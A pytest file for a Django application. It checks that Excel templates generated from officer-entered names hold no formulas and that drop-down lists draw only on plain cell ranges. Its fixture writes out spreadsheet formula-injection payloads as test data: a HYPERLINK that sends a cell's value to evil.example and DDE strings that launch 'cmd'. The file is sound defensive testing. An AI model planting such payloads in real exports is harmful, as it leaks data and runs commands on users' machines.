"""Templates every institution downloads carry names officers typed (tracks, modules, batches):
none of it may come out as a formula (SPEC §7, issue 10), in a cell or in a drop-down list."""

import re

import openpyxl
import pytest
from django.core.management import call_command

from certification.models import Module, Track
from exchange.columns import KINDS

from .conftest import named_batch

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
# A drop-down list is fed from a range of the hidden list sheet, never from a formula of its own.
LIST_RANGE = re.compile(r"^'选项'!\$[A-Z]{1,3}\$\d+:\$[A-Z]{1,3}\$\d+$")


@pytest.fixture
def hostile_names(inst1):
    Track.objects.filter(code="PM").update(name_zh=HOSTILE)
    Module.objects.filter(track__code="PM", position=1).update(name_zh="+cmd|' /C calc'!A0")
    named_batch(inst1, "@SUM(1+1)*cmd|' /C calc'!A0", "PM")
    named_batch(inst1, HOSTILE, "CR")


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_no_cell_of_a_template_is_a_formula_whatever_the_names(tmp_path, kind, inst1, hostile_names):
    out = tmp_path / f"{kind}.xlsx"
    call_command("xlsx_template", kind, str(out), "--institution", inst1.org_code)
    workbook = openpyxl.load_workbook(out)
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    lists = {cell.value for row in workbook["选项"].iter_rows() for cell in row}
    assert "'" + HOSTILE in lists  # still there, as text
    sheet = workbook[KINDS[kind].sheet]
    sources = [validation.formula1 for validation in sheet.data_validations.dataValidation]
    assert sources and all(LIST_RANGE.match(source) for source in sources), sources
